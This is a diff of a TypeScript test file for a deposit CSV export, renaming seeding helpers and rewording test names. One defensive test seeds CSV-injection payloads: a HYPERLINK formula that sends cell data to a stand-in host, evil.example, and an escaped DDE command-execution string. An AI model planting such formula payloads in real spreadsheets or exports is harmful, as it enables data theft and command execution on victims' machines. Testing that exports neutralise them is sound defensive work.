@@ -1,9 +1,9 @@
 import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { depositExport } from "@/lib/contracts/deposit-export";
-import { closeDb } from "@/server/db";
-import { call, handlerOf, ok } from "../setup/client";
-import { everything } from "../setup/everything";
+import { closeDb } from "@/server/platform/db";
+import { adminDb } from "../support/admin-db";
+import { call, handlerOf, ok } from "../support/client";
 import { Signed } from "./bad-input/signed";
 
 let owner: Signed;
@@ -16,7 +16,7 @@ beforeAll(async () => {
 });
 afterAll(() => closeDb());
 
-interface Plant {
+interface Seed {
   providerId: string;
   date: string;
   amount: bigint;
@@ -24,12 +24,12 @@ interface Plant {
   currency?: string;
 }
 
-async function plant(signed: Signed, { date, ...deposit }: Plant): Promise<number> {
+async function seed(signed: Signed, { date, ...deposit }: Seed): Promise<number> {
   const { companyId } = signed.owner;
-  const { id: integrationId } = await everything().integration.findFirstOrThrow({
+  const { id: integrationId } = await adminDb().integration.findFirstOrThrow({
     where: { companyId, provider: "stripe" },
   });
-  const { id } = await everything().deposit.create({
+  const { id } = await adminDb().deposit.create({
     data: {
       companyId,
       integrationId,
@@ -45,7 +45,7 @@ async function plant(signed: Signed, { date, ...deposit }: Plant): Promise<numbe
 }
 
 async function clear(signed: Signed): Promise<void> {
-  await everything().deposit.deleteMany({ where: { companyId: signed.owner.companyId } });
+  await adminDb().deposit.deleteMany({ where: { companyId: signed.owner.companyId } });
 }
 
 const list = (query: string) => ok("GET", `/qb/deposit-status/${query}`, owner.token);
@@ -67,7 +67,7 @@ describe("the range of dates", () => {
     await clear(owner);
     days = [];
     for (const date of ["2026-01-31", "2026-02-01", "2026-02-28", "2026-03-01"]) {
-      days.push(await plant(owner, { providerId: `po_${date}`, date, amount: 100n }));
+      days.push(await seed(owner, { providerId: `po_${date}`, date, amount: 100n }));
     }
   });
 
@@ -102,10 +102,10 @@ describe("the range of dates", () => {
 });
 
 describe("the order", () => {
-  test("QuickBooks' ids go by number, and what is not posted comes last both ways", async () => {
+  test("QuickBooks' ids sort as numbers, and unposted deposits come last both ways", async () => {
     await clear(owner);
     const of = (quickbooksId?: string) =>
-      plant(owner, {
+      seed(owner, {
         providerId: `po_${quickbooksId}`,
         date: "2026-01-01",
         amount: 1n,
@@ -118,13 +118,13 @@ describe("the order", () => {
 });
 
 describe("the export", () => {
-  test("is a file to be saved, with amounts as decimals and dates as ISO has them", async () => {
+  test("is a file download, with decimal amounts and ISO dates", async () => {
     await clear(owner);
     const posted = { quickbooksId: "1043", date: "2026-02-01" };
-    const a = await plant(owner, { ...posted, providerId: "po_a", amount: 123_456_789n });
-    const b = await plant(owner, { providerId: "po_b", date: "2026-01-02", amount: -50n });
+    const a = await seed(owner, { ...posted, providerId: "po_a", amount: 123_456_789n });
+    const b = await seed(owner, { providerId: "po_b", date: "2026-01-02", amount: -50n });
     const yen = { date: "2026-01-01", amount: 500n, currency: "JPY" };
-    const c = await plant(owner, { ...yen, providerId: "po_c" });
+    const c = await seed(owner, { ...yen, providerId: "po_c" });
     const { answer, text } = await download();
     expect(Object.fromEntries(answer.headers)).toMatchObject({
       "content-type": "text/csv; charset=utf-8",
@@ -141,7 +141,7 @@ describe("the export", () => {
     ]);
   });
 
-  test("holds no formula, and names with commas, quotes and line breaks come back", async () => {
+  test("holds no formula, and names with commas, quotes and line breaks round-trip", async () => {
     await clear(owner);
     const names = [
       '=HYPERLINK("http://evil.example/?"&A1,"Click")',
@@ -154,9 +154,9 @@ describe("the export", () => {
       'Böhm, "Sons"\nLtd.',
     ];
     for (const [index, providerId] of names.entries()) {
-      await plant(owner, { providerId, date: `2026-01-0${index + 1}`, amount: 1n });
+      await seed(owner, { providerId, date: `2026-01-0${index + 1}`, amount: 1n });
     }
-    await everything().integration.updateMany({
+    await adminDb().integration.updateMany({
       where: { companyId: owner.owner.companyId, provider: "quickbooks" },
       data: {
         status: "connected",
@@ -170,23 +170,23 @@ describe("the export", () => {
     );
     expect(new Set(rows.map((row) => row.Account))).toEqual(new Set(["'=cmd|' /C calc'!A0"]));
     for (const row of rows) expect(row["Total Amount"]).toBe("0.01");
-    await everything().integration.updateMany({
+    await adminDb().integration.updateMany({
       where: { companyId: owner.owner.companyId, provider: "quickbooks" },
       data: { status: "disconnected", credentials: null },
     });
   });
 
-  test("of another company's rows there is none", async () => {
-    await plant(stranger, { providerId: "po_theirs", date: "2026-01-01", amount: 1n });
+  test("holds no other company's rows", async () => {
+    await seed(stranger, { providerId: "po_theirs", date: "2026-01-01", amount: 1n });
     const { text } = await download();
     expect(text).not.toContain("po_theirs");
     expect((await download("?q=theirs")).text).toBe(`${HEADS}\r\n`);
   });
 
-  test("ten thousand rows come part by part, each once and in order", async () => {
+  test("ten thousand rows arrive in parts, each once and in order", async () => {
     await clear(owner);
     const { companyId } = owner.owner;
-    await everything().$executeRaw`
+    await adminDb().$executeRaw`
       INSERT INTO deposits (company_id, integration_id, provider_id, payout_status, txn_date, amount,
         currency, itemized)
       SELECT ${companyId}::uuid, id, 'po_' || n, 'paid', date '2020-01-01' + n / 10, n, 'USD', false
@@ -199,7 +199,7 @@ describe("the export", () => {
     const decoder = new TextDecoder();
     const bytes: Uint8Array[] = [];
     for await (const part of (await handler(request)).body ?? []) bytes.push(part);
-    // Excel knows UTF-8 by its mark.
+    // Excel detects UTF-8 by its byte order mark.
     expect([...(bytes[0]?.slice(0, 3) ?? [])]).toEqual([0xef, 0xbb, 0xbf]);
     parts.push(...bytes.map((part) => decoder.decode(part)));
     expect(parts.length).toBe(11);
@@ -210,7 +210,7 @@ describe("the export", () => {
     expect(rows.at(-1)?.["Total Amount"]).toBe("100.00");
   });
 
-  test("a reader who goes away stops the reading", async () => {
+  test("stops reading when the client disconnects", async () => {
     const handler = await handlerOf("GET", `/api${depositExport.path}`);
     const address = `http://localhost:3000/api${depositExport.path}`;
     const answer = await handler(new Request(address, { headers: { authorization: owner.token } }));
